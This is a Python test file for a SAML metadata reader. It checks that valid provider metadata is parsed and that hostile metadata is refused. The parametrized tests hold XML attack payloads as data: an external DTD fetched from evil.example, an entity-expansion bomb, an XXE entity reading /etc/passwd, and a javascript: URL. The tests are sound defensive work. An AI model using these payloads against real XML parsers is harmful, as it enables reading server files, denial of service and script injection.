"""The metadata of a SAML provider, which anybody may have written."""

import re

import pytest

from guestlist.sso import errors
from guestlist.sso.commands import create_connection
from guestlist.sso.rules import certificate_end, read_metadata
from tests.cast import Cast
from tests.sso.acts import connect
from tests.sso.identity_provider import CERTIFICATE, ENTITY


def metadata(body: str = "", head: str = "", entity: str = ENTITY) -> bytes:
    key = "".join(CERTIFICATE.splitlines()[1:-1])
    return f"""{head}<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"
 xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="{entity}"><md:IDPSSODescriptor
 protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data>
<ds:X509Certificate>{key}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>{body}
<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.example/sso"/>
</md:IDPSSODescriptor></md:EntityDescriptor>""".encode()


def test_metadata_is_read_and_its_certificate_has_an_end(cast: Cast):
    saml = read_metadata(metadata())

    row = create_connection(actor=cast.olga.actor, workspace=cast.northwind, name="Okta", provider=saml)

    assert (saml.entity_id, saml.sso_url, saml.certificates) == (ENTITY, "https://idp.example/sso", (CERTIFICATE.strip(),))
    assert certificate_end(row.certificates) is not None
    assert certificate_end(connect(cast, name="Entra").certificates) is None


BOMB = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"<x/>",
        b"hello",
        metadata(head='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
        metadata(head=BOMB, entity="&c;"),
        metadata(head='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', entity="&e;"),
        metadata("x" * 600_000),
        metadata().replace(b"https://idp.example/sso", b"javascript:alert(1)"),
        metadata().replace(b"MII", b"!!!"),
        re.sub(b"(?s)(<ds:X509Certificate>).*(</ds:X509Certificate>)", rb"\1\2", metadata()),
    ],
)
def test_metadata_that_is_hostile_or_none_is_refused(xml: bytes):
    """R-085: no document types, no entities, nothing fetched, nothing large."""
    with pytest.raises(errors.BadMetadata):
        read_metadata(xml)
